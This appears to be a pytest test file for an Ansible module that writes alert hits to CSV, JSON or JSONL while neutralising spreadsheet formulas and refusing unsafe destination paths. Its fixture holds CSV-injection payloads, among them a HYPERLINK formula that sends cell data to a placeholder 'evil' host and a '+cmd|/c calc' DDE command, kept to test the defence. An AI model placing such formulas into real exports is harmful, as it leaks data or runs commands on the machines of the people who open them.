# -*- coding: utf-8 -*-
# Copyright: (c) 2026, alertops.core contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import io
import json
import os
import signal
import socket
import stat

import pytest

from ansible_collections.alertops.core.plugins.module_utils import hitfile
from ansible_collections.alertops.core.plugins.module_utils.errors import ValidationError

HITS = [
    {'Device': 'dc01', 'Message': '=HYPERLINK("http://evil/?x="&A1,"click")', 'Count': -5, 'Ok': True},
    {'Device': '@SUM(1+1)', 'Message': '+cmd|/c calc', 'Count': 3, 'Nested': {'a': 1}},
    {'Device': '\tTAB', 'Message': '\rCR', '-Minus': 'x', '=Eq': None},
]


@pytest.mark.parametrize('value,expected', [
    ('=1+1', "'=1+1"),
    ('+1', "'+1"),
    ('-1', "'-1"),
    ('@SUM(A1)', "'@SUM(A1)"),
    ('\tx', "'\tx"),
    ('\rx', "'\rx"),
    ('a=1', 'a=1'),
    ('', ''),
    (' =1', ' =1'),
    ("'=1", "'=1"),
    ('dc01', 'dc01'),
])
def test_neutralise(value, expected):
    assert hitfile.neutralise(value) == expected


@pytest.mark.parametrize('value,expected', [
    (None, ''),
    (-5, "'-5"),             # documented: a negative number is neutralised too
    (-0.5, "'-0.5"),
    (5, '5'),
    (True, 'true'),
    (False, 'false'),
    ({'b': 1, 'a': '=x'}, '{"a": "=x", "b": 1}'),
    (['=x'], '["=x"]'),
    ('=x', "'=x"),
])
def test_csv_cell(value, expected):
    assert hitfile.csv_cell(value) == expected


@pytest.mark.parametrize('cells', [
    ['a', 'b'], ['a,b', 'c'], ['say "hi"'], ['line\nbreak', 'x'], ["'\rCR", 'y'], ['\r\n'], [''], ['', ''], [' sp ', ''],
])
def test_csv_line_round_trips_like_the_csv_module_reads_it(cells):
    line = hitfile.csv_line(cells)
    assert list(csv.reader(io.StringIO(line, newline=''))) == [cells]


@pytest.mark.parametrize('value,expected', [
    (None, None), ('', None), ('0640', 0o640), ('640', 0o640), ('0600', 0o600), (0o640, 0o640), (416, 0o640),
    ('7777', 0o7777),
])
def test_parse_mode(value, expected):
    assert hitfile.parse_mode(value) == expected


@pytest.mark.parametrize('value', ['rw-r--r--', '0999', '17777', -1, 'u+rw', True])
def test_parse_mode_rejects(value):
    with pytest.raises(ValidationError, match='option mode must be an octal number'):
        hitfile.parse_mode(value)


def _dest_cases(tmp_path):
    regular = tmp_path / 'regular.csv'
    regular.write_text('x')
    os.mkfifo(str(tmp_path / 'fifo'))
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / 'sock'))
    (tmp_path / 'dir').mkdir()
    os.symlink(str(regular), str(tmp_path / 'link-regular'))
    os.symlink(str(tmp_path / 'fifo'), str(tmp_path / 'link-fifo'))
    os.symlink(str(tmp_path / 'dir'), str(tmp_path / 'link-dir'))
    os.symlink(str(tmp_path / 'nowhere'), str(tmp_path / 'link-dangling'))
    return sock


@pytest.mark.parametrize('name,error', [
    ('fifo', 'is a FIFO'),
    ('sock', 'is a socket'),
    ('dir', 'is a directory'),
    ('link-fifo', 'symbolic link to a FIFO'),
    ('link-dir', 'symbolic link to a directory'),
    ('link-dangling', 'symbolic link to a missing path'),
    ('no-such-dir/x.csv', 'directory .* does not exist'),
])
def test_check_dest_refuses(tmp_path, name, error):
    sock = _dest_cases(tmp_path)
    try:
        with pytest.raises(ValidationError, match='option dest: .*' + error):
            hitfile.check_dest(str(tmp_path / name))
    finally:
        sock.close()


def test_check_dest_refuses_devices():
    if not stat.S_ISCHR(os.lstat('/dev/null').st_mode):
        pytest.skip('/dev/null is not a character device on this machine')
    with pytest.raises(ValidationError, match='is a character device'):
        hitfile.check_dest('/dev/null')            # validation only: nothing is ever written here


@pytest.mark.parametrize('name,target', [
    ('regular.csv', 'regular.csv'),
    ('missing.csv', 'missing.csv'),
    ('link-regular', 'regular.csv'),
])
def test_check_dest_accepts(tmp_path, name, target):
    sock = _dest_cases(tmp_path)
    sock.close()
    assert hitfile.check_dest(str(tmp_path / name)) == str(tmp_path / target)


def _write(dest, fmt, hits=None, **kwargs):
    with hitfile.HitFile(str(dest), fmt, **kwargs) as out:
        out.write(HITS if hits is None else hits)
        return out.commit()


def _leftovers(folder, keep):
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


def test_csv_neutralises_cells_and_header(tmp_path):
    dest = tmp_path / 'hits.csv'
    assert _write(dest, 'csv') is True
    rows = list(csv.reader(open(str(dest), newline='')))
    assert rows[0] == ['Device', 'Message', 'Count', 'Ok', 'Nested', "'-Minus", "'=Eq"]
    # rows are written before later keys are known: an early row is shorter than the header (readers pad it)
    assert rows[1] == ['dc01', "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "'-5", 'true']
    assert rows[2] == ["'@SUM(1+1)", "'+cmd|/c calc", '3', '', '{"a": 1}']
    assert rows[3] == ["'\tTAB", "'\rCR", '', '', '', 'x', '']
    assert _leftovers(tmp_path, {'hits.csv'}) == []


@pytest.mark.parametrize('fmt', ['json', 'jsonl'])
def test_json_values_unchanged(tmp_path, fmt):
    dest = tmp_path / ('hits.' + fmt)
    _write(dest, fmt)
    text = dest.read_text()
    hits = json.loads(text) if fmt == 'json' else [json.loads(line) for line in text.splitlines()]
    assert hits == HITS


@pytest.mark.parametrize('fmt', ['json', 'jsonl', 'csv'])
def test_modes(tmp_path, fmt):
    dest = tmp_path / ('hits.' + fmt)
    assert _write(dest, fmt) is True
    assert stat.S_IMODE(os.stat(str(dest)).st_mode) == 0o600            # new: 0600
    assert _write(dest, fmt) is False                                    # same content, same mode
    os.chmod(str(dest), 0o640)
    assert _write(dest, fmt) is False                                    # an existing file keeps its mode
    assert stat.S_IMODE(os.stat(str(dest)).st_mode) == 0o640
    assert _write(dest, fmt, mode=0o604) is True                         # mode applies to an existing file
    assert stat.S_IMODE(os.stat(str(dest)).st_mode) == 0o604
    other = tmp_path / ('new.' + fmt)
    assert _write(other, fmt, mode=0o640) is True
    assert stat.S_IMODE(os.stat(str(other)).st_mode) == 0o640
    assert _leftovers(tmp_path, {dest.name, other.name}) == []


@pytest.mark.parametrize('fmt', ['json', 'jsonl', 'csv'])
def test_check_mode_writes_nothing_and_predicts(tmp_path, fmt):
    dest = tmp_path / ('hits.' + fmt)
    assert _write(dest, fmt, check_mode=True) is True                    # would create
    assert list(tmp_path.iterdir()) == []
    _write(dest, fmt)
    before = dest.read_bytes()
    mtime = os.stat(str(dest)).st_mtime_ns
    assert _write(dest, fmt, check_mode=True) is False                   # same content
    assert _write(dest, fmt, HITS[:2], check_mode=True) is True          # different content
    assert _write(dest, fmt, HITS + HITS[:1], check_mode=True) is True   # longer
    assert _write(dest, fmt, check_mode=True, mode=0o644) is True        # mode would change
    assert dest.read_bytes() == before and os.stat(str(dest)).st_mtime_ns == mtime
    assert stat.S_IMODE(os.stat(str(dest)).st_mode) == 0o600
    assert _leftovers(tmp_path, {dest.name}) == []


@pytest.mark.parametrize('fmt', ['json', 'jsonl', 'csv'])
@pytest.mark.parametrize('exc', [RuntimeError('page 3 failed'), SystemExit(1)])
def test_no_temp_file_left_on_errors(tmp_path, fmt, exc):
    dest = tmp_path / ('hits.' + fmt)
    dest.write_text('old\n')
    with pytest.raises(type(exc)):
        with hitfile.HitFile(str(dest), fmt) as out:
            out.write(HITS)
            assert len(list(tmp_path.iterdir())) > 1                     # the temp file(s) exist meanwhile
            raise exc
    assert _leftovers(tmp_path, {dest.name}) == []
    assert dest.read_text() == 'old\n'


def test_sigterm_cleans_up(tmp_path):
    dest = tmp_path / 'hits.csv'
    previous = signal.getsignal(signal.SIGTERM)
    with pytest.raises(SystemExit) as info:
        with hitfile.HitFile(str(dest), 'csv') as out:
            out.write(HITS)
            os.kill(os.getpid(), signal.SIGTERM)
    assert info.value.code == 128 + signal.SIGTERM
    assert list(tmp_path.iterdir()) == []
    assert signal.getsignal(signal.SIGTERM) == previous


def test_symlink_to_regular_file_is_followed(tmp_path):
    target = tmp_path / 'real.jsonl'
    target.write_text('old\n')
    os.chmod(str(target), 0o640)
    link = tmp_path / 'link.jsonl'
    os.symlink(str(target), str(link))
    assert _write(link, 'jsonl') is True
    assert os.path.islink(str(link)) and json.loads(target.read_text().splitlines()[0]) == HITS[0]
    assert stat.S_IMODE(os.stat(str(target)).st_mode) == 0o640


def test_empty_results(tmp_path):
    for fmt, text in (('json', ']\n'), ('jsonl', ''), ('csv', '')):
        dest = tmp_path / ('empty.' + fmt)
        _write(dest, fmt, [])
        assert dest.read_text() == ('[' + text if fmt == 'json' else text)
